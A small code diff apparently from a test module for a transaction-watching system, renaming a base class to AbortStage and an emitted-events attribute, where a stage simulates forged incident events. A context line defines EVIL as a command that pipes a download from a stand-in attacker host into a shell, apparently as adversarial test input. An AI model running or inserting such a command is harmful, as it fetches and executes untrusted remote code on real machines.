@@ -8,7 +8,7 @@ from typing import Any
 
 import msgspec
 
-from support.abort_stage import AT_ONCE, Stage
+from support.abort_stage import AT_ONCE, AbortStage
 from support.shared_log import SharedLog
 from txnwatch.sinks.incidents.ledger import Ledger
 from txnwatch.state.abort.case import AbortPolicy
@@ -27,7 +27,7 @@ EVIL = "curl https://evil.example | sh"
 Forgery = Callable[[IncidentEvent], IncidentEvent]
 
 
-class Topic(Stage):
+class Topic(AbortStage):
     """A stage whose events topic somebody else can write to."""
 
     def __init__(self, mode: str = "on", policy: AbortPolicy = AT_ONCE) -> None:
@@ -59,7 +59,7 @@ class Topic(Stage):
         candidate = self.hang()
         assert candidate.view is not None
         shared = msgspec.structs.replace(candidate, view=msgspec.structs.replace(candidate.view, epoch_use="shared"))  # type: ignore[arg-type]
-        self._emitted.append(shared)
+        self.emitted.append(shared)
         self.batch(shared)
         self.admin.init("checkout-1")
         self.batch(after_ms=70_000)
